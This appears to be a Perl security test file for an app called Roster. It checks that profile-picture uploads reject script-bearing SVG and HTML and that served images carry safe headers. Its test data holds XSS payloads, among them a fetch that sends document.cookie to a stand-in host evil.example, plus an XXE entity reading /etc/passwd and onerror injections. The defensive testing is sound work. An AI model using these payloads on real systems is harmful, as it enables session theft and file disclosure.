# CWE-79: a picture that is a page: SVG and HTML with a script, uploaded as a profile picture, run in whoever looks at it.
use v5.36;

use MIME::Base64 'encode_base64';
use Test::More;
use Roster::Attack;
use Roster::Pictures;

my $script = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
my %pages = (
    'SVG' => qq{<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">$script</svg>},
    'SVG behind a declaration' =>
        qq{<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg">$script</svg>},
    'SVG with an entity' =>
        q{<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>},
    'HTML' => "<!doctype html>$script",
    'HTML behind spaces' => "   \n<html>$script</html>",
    'PDF' => "%PDF-1.7\n1 0 obj\n",
    'compressed SVG' => "\x1f\x8b\x08\0\0\0\0\0\0\3",
    'UTF-7' => '+ADw-script+AD4-alert(1)+ADw-/script+AD4-');

attack 'what is no picture' => sub ($roster) {
    my $user = $roster->add_user;
    my $set = sub ($address) {
        $roster->post('/auths/update/profile', $user, {name => 'N', profile_image_url => $address});
    };
    for my $name (sort keys %pages) {
        for my $type ('image/svg+xml', 'image/png', 'text/html', 'IMAGE/SVG+XML;charset=utf-8', 'image/png,text/html') {
            my $answer = $set->(data_uri($pages{$name}, $type));
            cmp_ok $answer->{status}, '==', 400, "$name as $type" or diag $answer->{body};
        }
        my $answer = $set->('data:image/svg+xml,' . $pages{$name});
        like $answer->{status}, qr{^4(?:00|22)$}, "$name, not encoded" or diag $answer->{body};
    }
    is $set->(data_uri(png))->{status}, 200, 'a picture';
};

attack 'a picture that is a page, too' => sub ($roster) {
    my $user = $roster->add_user;
    my $bytes = png(more => $script . $pages{SVG});
    for my $declared ('image/svg+xml', 'text/html', 'image/png') {
        my $answer = $roster->post('/auths/update/profile', $user,
            {name => 'N', profile_image_url => data_uri($bytes, $declared)});
        next if $answer->{status} != 200;
        for my $path (picture_address($bytes), "/api/v1/users/$user->{id}/profile/image") {
            my $picture = $roster->get($path, $user);
            $picture = $roster->get($picture->{headers}{location} =~ s{^https?://[^/]+}{}r, $user)
                if $picture->{status} == 302;
            is $picture->{status}, 200, "declared as $declared: $path" or next;
            is $picture->{headers}{'content-type'}, 'image/png', '... is what its bytes are';
            is $picture->{headers}{'x-content-type-options'}, 'nosniff', '... and nothing that a browser guesses';
            like $picture->{headers}{'content-security-policy'} // '', qr/sandbox|default-src 'none'/,
                '... nor runs it a script';
        }
    }
};

attack 'a name that is a page, in the picture that Roster draws' => sub ($roster) {
    for my $name ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "&lt;b", '\'"<>&') {
        my $user = $roster->add_user(name => $name);
        my $answer = $roster->get("/users/$user->{id}/profile/image?initials=true", $user);
        is $answer->{status}, 200, "initials of $name";
        unlike $answer->{body}, qr/<(?:script|img)|on\w+=/i, '... bring no element along';
        like $answer->{headers}{'content-security-policy'} // '', qr/sandbox|default-src 'none'/,
            '... nor would it run';
    }
};

end_of_attacks;
